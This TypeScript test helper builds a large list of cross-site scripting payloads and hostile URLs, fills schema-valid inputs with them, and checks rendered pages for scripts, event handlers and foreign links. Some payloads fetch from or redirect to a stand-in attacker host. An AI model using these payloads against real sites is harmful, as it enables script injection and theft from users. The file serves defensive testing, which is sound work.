import type { TSchema } from 'typebox'

const tags = [
  'img',
  'svg',
  'video',
  'audio',
  'body',
  'iframe',
  'object',
  'details',
  'marquee',
  'input',
  'a',
  'math',
]
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onstart',
  'onpointerenter',
]
const calls = [
  'alert(1)',
  '&#97;lert(1)',
  'eval(name)',
  'top["al"+"ert"](1)',
  'import(`//evil.example`)',
  'fetch("//evil.example")',
]

/** Addresses that must lead nowhere and load nothing. */
const hostileAddresses = [
  'javascript:alert(1)',
  ' javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  'https://evil.example/',
  'http://evil.example/',
  'https://site.test@evil.example/',
]

/** Texts that run something where they are taken for markup: more than 500. */
export const hostileTexts = [
  ...tags.flatMap((tag) =>
    handlers.flatMap((on) => calls.map((js) => `"'><${tag} src=x ${on}=${js} autofocus>`)),
  ),
  '<script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<style>@import "//evil.example"</style>',
  '<base href="//evil.example">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<form action="//evil.example"><button>x</button></form>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  ...hostileAddresses.map((to) => `[x](${to}) <a href="${to}">x</a>`),
]

/** One turn an address, with its share of the texts, so that a page is rendered as often as there are addresses. */
export const hostileTurns = hostileAddresses.map((address, index) => ({
  address,
  text: hostileTexts.filter((_one, n) => n % hostileAddresses.length === index).join(' '),
}))

const samples = [
  '1.00',
  '00000000-0000-7000-8000-000000000001',
  'some-item',
  '2026-11-20',
  '2026-11-20 09:00:00',
  'EN',
  '/promotions',
  'abcdefgh',
]

type Node = TSchema & {
  type?: string
  const?: unknown
  enum?: unknown[]
  anyOf?: Node[]
  format?: string
  pattern?: string
  properties?: Record<string, Node>
  items?: Node
  minimum?: number
  patternProperties?: Record<string, Node>
}

/** A value that a schema lets through, with this text wherever a text may be anything, and this address wherever one is told. */
export function hostileValue(schema: TSchema, text: string, address: string, name = ''): unknown {
  const node = schema as Node
  const of = (inner: Node, key = name) => hostileValue(inner, text, address, key)
  if (node.const !== undefined) return node.const
  if (node.enum) return node.enum[0]
  if (node.anyOf) return of(node.anyOf.find(({ type }) => type !== 'null') ?? { type: 'null' })
  if (node.properties) {
    const getName = (key: string) => (name === 'announcementImages' && key === 'url' ? 'picture' : key)
    const entries = Object.entries(node.properties)
    return Object.fromEntries(entries.map(([key, inner]) => [key, of(inner, getName(key))]))
  }
  if (node.patternProperties) return { EN: of(Object.values(node.patternProperties)[0] ?? {}) }
  if (node.type === 'array') return node.items ? [of(node.items)] : []
  if (node.type === 'integer' || node.type === 'number') return Math.max(1, node.minimum ?? 1)
  if (node.type === 'boolean') return true
  if (node.type !== 'string') return null
  return getHostileText(node, text, address, name)
}

/** A text of this name as hostile as its schema lets it be. */
function getHostileText(node: Node, text: string, address: string, name: string): string {
  if (node.format === 'date-time') return '2026-11-20T09:00:00.000Z'
  // An article is shown where the brand's own list names it.
  if (name === 'tag') return 'about'
  if (node.pattern !== undefined) {
    const { pattern } = node
    return samples.find((sample) => new RegExp(pattern).test(sample)) ?? ''
  }
  // Codes that the gateway's own documents hold, by which texts are found.
  if (/^languages?$/.test(name)) return 'EN'
  if (/^(link|linkage|to|url|address)$/.test(name)) return address
  // Pictures may come from hosts of their own, which the policy lists: what is tried is what runs or hides where it leads.
  if (/^(picture|poster)$/.test(name)) return /^https?:/i.test(address) ? '/picture.png' : address
  if (/^(timestamp|date|day|startsOn|endsOn)$/.test(name)) return '2026-11-20 09:00:00'
  return text
}

/** What of a page runs, loads or leads where it must not. */
export function harmIn(root: ParentNode): string[] {
  const harm: string[] = []
  for (const element of root.querySelectorAll('*')) {
    const name = element.tagName.toLowerCase()
    if (/^(script|iframe|object|embed|style|link|meta|base|marquee|math|frame)$/.test(name))
      harm.push(`<${name}>`)
    for (const { name: attribute, value } of element.attributes) {
      if (/^on/i.test(attribute)) harm.push(`${name} ${attribute}`)
      if (!/^(href|src|action|formaction|poster|data|xlink:href|srcdoc)$/.test(attribute)) continue
      const url = URL.canParse(value, 'http://site.test') ? new URL(value, 'http://site.test') : undefined
      const isOurs =
        url?.origin === 'http://site.test' || (name === 'img' && /^data:image\/jpeg;/.test(value))
      if (!isOurs && !/^(mailto|tel):/.test(value)) harm.push(`${name} ${attribute}=${value.slice(0, 40)}`)
    }
  }
  return harm
}
